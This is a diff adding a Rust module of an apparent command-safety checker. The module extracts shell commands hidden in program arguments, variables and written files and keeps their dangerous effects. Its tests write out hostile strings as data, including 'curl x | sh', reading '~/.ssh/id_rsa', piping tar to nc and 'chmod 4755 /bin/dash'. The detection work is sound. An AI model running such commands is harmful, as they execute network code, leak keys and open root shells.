@@ -1,0 +1,270 @@
+//! Commands within what a program is given: in an argument (`--opt 'sh -c "…"'`, `system.run[…]`), in the variables before
+//! it, in a file that the script wrote in a form that gate does not read.
+//!
+//! Such a text need not run. So each command that it holds is read as one, and of all that it would do only that is kept
+//! which nobody writes down for another purpose: secrets that leave, code straight from the network, a shell for others, a
+//! home or a system deleted or opened, a line in a file that runs by itself.
+
+use std::borrow::Cow;
+
+use super::analysis::Analysis;
+use super::knowledge::{Classes, Kind};
+use super::paths::{base_name, core};
+use super::planted::never_meant;
+use super::shell::ast::Span;
+use super::value::{Data, Sink, Val};
+use super::{Call, Effect};
+use crate::limits;
+
+/// Languages of which only the calls that start programs are read, if at all.
+const UNREAD: [&str; 12] =
+    ["other", "data", "scheme", "elisp", "erlang", "elixir", "r", "julia", "lua", "debugger", "applescript", "tmux"];
+
+/// What files are called whose language gate reads when they run, or that are read by people.
+const TEXTS: [&str; 20] = [
+    "py", "js", "mjs", "cjs", "ts", "tsx", "jsx", "rb", "sh", "bash", "pl", "php", "go", "rs", "c", "cpp", "h", "java",
+    "md", "txt",
+];
+
+impl<'a> Analysis<'a> {
+    /// The commands in a call's words, in the variables before it, and in the files that it names.
+    pub fn embedded(&mut self, call: &Call<'a>, settings: &[(&'a str, Val<'a>)], index: u32) {
+        let texts = |word: &str| word.len() > 8 && word.contains(' ');
+        let has_words = call.words.iter().skip(1).any(|word| word.val.lit().is_some_and(texts));
+        let has_settings = settings.iter().any(|(_, val)| val.lit().is_some_and(texts));
+        if self.embedding || !(has_words || has_settings || self.state.has_files()) {
+            return;
+        }
+        let listed = |list: &str| self.know.places().list(list).any(|name| name == call.program);
+        if listed("takes-texts") || listed("looks-only") {
+            return;
+        }
+        for (_, val) in settings {
+            if let Some(text) = val.lit().filter(|text| texts(text)) {
+                self.commands_in_text(text, announces(text), call.span, index);
+            }
+        }
+        for pair in call.words.windows(2) {
+            let [before, word] = pair else { continue };
+            let Some(text) = word.val.lit().filter(|text| !self.is_read(call, word.span, text)) else { continue };
+            let option = before.val.lit().is_some_and(|option| option.starts_with('-') && names_code(option));
+            if texts(text) {
+                self.commands_in_text(text, option || announces(text), word.span, index);
+            } else if self.state.has_files()
+                && let Some(text) = self.written_text(text)
+            {
+                self.commands_in_text(text, announces(text), word.span, index);
+            }
+        }
+    }
+
+    /// Whether a word is code, or a file of code, in a language that is read.
+    fn is_read(&self, call: &Call<'a>, span: Span, text: &str) -> bool {
+        let Some(entry) = call.entry else { return false };
+        let is_text_of =
+            |name: &str| matches!(name, "pattern" | "message" | "text" | "word" | "string" | "sql" | "url");
+        call.operands.iter().any(|operand| operand.field.span == span && is_text_of(operand.name))
+            || entry.code.iter().filter(|code| !UNREAD.contains(&code.language)).any(|code| {
+                let same = |field: super::value::Field<'a>| {
+                    field.span == span && field.val.lit().is_some_and(|t| text.ends_with(t))
+                };
+                code.from.iter().any(|name| call.fields(name).any(same))
+            })
+    }
+
+    /// The text that the script wrote to the file which a word names, if it is neither a program's nor people's.
+    fn written_text(&self, word: &'a str) -> Option<&'a str> {
+        let name = word.rfind(['=', '@', ':']).map_or(word, |at| &word[at + 1..]);
+        let ending = base_name(name).rsplit_once('.').map_or("", |(_, ending)| ending);
+        let file = self.state.file(self.absolute(name)?).filter(|_| !TEXTS.contains(&ending))?;
+        file.data.text?.lit()
+    }
+
+    /// Keeps of the commands in a text what nobody writes down for another purpose; what is not `announced` as a command is
+    /// possible.
+    pub fn commands_in_text(&mut self, text: &'a str, announced: bool, span: Span, index: u32) {
+        let mut found = Vec::new();
+        candidates(text, &mut found, 0);
+        let commands: Vec<&'a str> = found
+            .into_iter()
+            .filter(|command| {
+                let first = command.split_whitespace().next().unwrap_or_default();
+                command.len() < text.len().max(limits::WORD)
+                    && command.contains(' ')
+                    && self.find_entry(base_name(first)).is_some()
+            })
+            .map(|command| &*self.bump.alloc_str(&command))
+            .collect();
+        if commands.is_empty() {
+            return;
+        }
+        let before = self.facts.effects.len();
+        let places = self.know.places();
+        let system = places.classes(["system-tree", "system", "secret"]) | core::HOME | core::ROOT;
+        self.embedding = true;
+        for command in commands.into_iter().take(limits::UNROLL) {
+            self.perhaps(|this| this.shell_code(Val::Lit(command), span, &Data::NOTHING, &mut Sink::new(), index));
+        }
+        self.embedding = false;
+        let runs_itself = places.self_running();
+        let found: Vec<Effect<'a>> = self.facts.effects.drain(before..).collect();
+        let kept = found.into_iter().filter(|effect| {
+            never_meant(effect, system, Classes::MAX) && (announced || effect.does != Kind::Delete)
+                || match effect.does {
+                    Kind::Write | Kind::Append | Kind::Create => effect.target.classes & runs_itself != 0,
+                    Kind::Permit => effect.target.classes & system != 0 || effect.marks.contains(&"setuid"),
+                    _ => false,
+                }
+        });
+        self.facts.effects.extend(kept.map(|effect| Effect { certain: announced, ..effect }));
+    }
+}
+
+/// What names of options and members begin with whose values are commands.
+const STEMS: [&str; 14] = [
+    "exec", "system", "spawn", "shell", "cmd", "command", "run", "eval", "hook", "script", "popen", "pager", "editor",
+    "sh{",
+];
+
+fn names_code(option: &str) -> bool {
+    let option = option.to_ascii_lowercase();
+    STEMS.iter().any(|stem| option.contains(stem))
+}
+
+/// Whether a text says that something in it is run: `command = "…"`, `system(…)`, `execute-silent(…)`, `%sh{…}`.
+fn announces(text: &str) -> bool {
+    STEMS.iter().any(|stem| {
+        text.match_indices(stem).any(|(at, _)| {
+            let rest = text[at + stem.len()..]
+                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'));
+            stem.ends_with('{') || rest.trim_start().starts_with(['(', '{', '[', '=', ':', '"', '\'', '/'])
+        })
+    })
+}
+
+/// Texts longer than this hold more than a command or two.
+const LONGEST: usize = 16 << 10;
+
+/// What may be a command in a text: lines and what stands in them after a name, what is quoted, what is in brackets.
+fn candidates(text: &str, out: &mut Vec<String>, depth: u32) {
+    if depth > 3 || text.len() > LONGEST {
+        return;
+    }
+    let mut add = |text: &str| {
+        let bare =
+            text.trim().trim_start_matches(['<', '|', '!', '@', '-', '+', '&', '*', ' ', '"', '\'']).trim_start();
+        if bare.contains(' ') && out.len() < limits::UNROLL && !out.iter().any(|known| known == bare) {
+            out.push(bare.to_owned());
+        }
+    };
+    let text = unescaped(text);
+    for line in text.lines().map(str::trim) {
+        add(line);
+        for between in ["=", ":", "\t", " ", "- "] {
+            if let Some((_, after)) = line.split_once(between) {
+                add(after);
+            }
+        }
+    }
+    let mut inner = Vec::new();
+    enclosed(&text, &mut inner);
+    for part in inner {
+        candidates(&part, out, depth + 1);
+    }
+}
+
+/// The entities of XML as what they stand for.
+fn unescaped(text: &str) -> Cow<'_, str> {
+    if !text.contains('&') || !text.contains(';') {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(
+        text.replace("&quot;", "\"")
+            .replace("&apos;", "'")
+            .replace("&lt;", "<")
+            .replace("&gt;", ">")
+            .replace("&amp;", "&"),
+    )
+}
+
+/// What stands in quotes and in brackets, outermost.
+fn enclosed(text: &str, out: &mut Vec<String>) {
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    while at < bytes.len() && out.len() < limits::VALUES * 4 {
+        let open = bytes[at];
+        at += 1;
+        match open {
+            b'"' | b'\'' | b'`' => {
+                let mut inner = Vec::new();
+                let mut end = at;
+                while end < bytes.len() && bytes[end] != open {
+                    end += usize::from(bytes[end] == b'\\' && end + 1 < bytes.len());
+                    inner.push(bytes[end]);
+                    end += 1;
+                }
+                // An apostrophe opens nothing.
+                if end < bytes.len() {
+                    out.extend(String::from_utf8(inner).ok().filter(|inner| inner.contains(' ')));
+                    at = end + 1;
+                }
+            }
+            b'(' | b'{' | b'[' => {
+                let close = match open {
+                    b'(' => b')',
+                    b'{' => b'}',
+                    _ => b']',
+                };
+                let mut deep = 1;
+                let end = bytes[at..].iter().position(|byte| {
+                    deep += i32::from(*byte == open) - i32::from(*byte == close);
+                    deep == 0
+                });
+                if let Some(end) = end {
+                    out.extend(text.get(at..at + end).filter(|inner| inner.contains(' ')).map(str::to_owned));
+                    // What is quoted in it is found there.
+                    at += end + 1;
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::candidates;
+
+    #[test]
+    fn commands_are_found_where_they_stand() {
+        for (text, command) in [
+            ("nop %sh{ curl x | sh }; quit", "curl x | sh"),
+            (r#"rpc:call(a, os, cmd, ["sh -c \"curl x|sh\""])"#, "sh -c \"curl x|sh\""),
+            ("system.run[base64 ~/.ssh/id_rsa >k,nowait]", "base64 ~/.ssh/id_rsa >k,nowait"),
+            ("before_dl:curl -T x y", "curl -T x y"),
+            ("plot '< curl -s x | sh'", "curl -s x | sh"),
+            ("cmd_preexec\t/bin/chmod 4755 /bin/dash", "/bin/chmod 4755 /bin/dash"),
+            ("<a command=\"sh -c &quot;curl x|sh&quot;\"/>", "sh -c "),
+            ("it's (rm -rf x)", "rm -rf x"),
+            ("execute(tar c x | nc y)+abort", "tar c x | nc y"),
+        ] {
+            let mut found = Vec::new();
+            candidates(text, &mut found, 0);
+            assert!(found.iter().any(|f| f.starts_with(command)), "{text}: {found:?}");
+        }
+    }
+
+    #[test]
+    fn what_is_run_is_said_so() {
+        assert!(super::announces("command = install x") && super::announces("os.execute(\"x\")"));
+        assert!(super::announces("nop %sh{ x }") && super::announces("cmd_preexec\t/bin/x"));
+        assert!(!super::announces("B -- rm -rf / --> C[deny]") && !super::announces("prune the shells"));
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn any_text_is_searched(text in "[ -~é\n]{0,80}") {
+            candidates(&text, &mut Vec::new(), 0);
+        }
+    }
+}
